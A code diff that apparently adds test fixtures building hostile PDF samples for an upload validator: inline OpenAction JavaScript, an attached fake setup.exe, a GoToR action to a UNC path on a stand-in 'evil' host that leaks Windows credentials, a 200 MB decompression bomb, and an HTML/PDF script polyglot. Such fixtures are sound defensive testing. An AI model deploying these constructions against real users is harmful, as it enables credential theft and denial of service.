@@ -36,3 +36,37 @@ export function letterForm(fields: Record<string, string>, letter?: { bytes: Buf
   if (letter) form.append('letter', new Blob([new Uint8Array(letter.bytes)], { type: letter.type ?? 'application/octet-stream' }), letter.name);
   return form;
 }
+
+/** Opens the document by running JavaScript from an inline action dictionary (no indirect object). */
+export async function pdfWithInlineJavaScript(): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await pdfLetter());
+  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
+  return Buffer.from(await pdf.save());
+}
+
+/** Carries a program as an attachment. */
+export async function pdfWithAttachment(): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await pdfLetter());
+  await pdf.attach(Buffer.from('MZ fake program'), 'setup.exe', { mimeType: 'application/octet-stream' });
+  return Buffer.from(await pdf.save());
+}
+
+/** Opens a file on another machine (GoToR to a UNC path leaks Windows credentials). */
+export async function pdfWithRemoteGoTo(): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await pdfLetter());
+  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ S: 'GoToR', F: PDFString.of('\\\\evil\\share\\x.pdf'), D: [0, 'Fit'] }));
+  return Buffer.from(await pdf.save());
+}
+
+/** A small PDF holding a stream that inflates to 200 MB. */
+export async function pdfInflationBomb(): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await pdfLetter());
+  const stream = pdf.context.flateStream(new Uint8Array(200 * 1024 * 1024));
+  pdf.catalog.set(PDFName.of('Padding'), pdf.context.register(stream));
+  return Buffer.from(await pdf.save());
+}
+
+/** An HTML page with a PDF appended: a polyglot that browsers may render as HTML. */
+export async function htmlPdfPolyglot(): Promise<Buffer> {
+  return Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), await pdfLetter()]);
+}
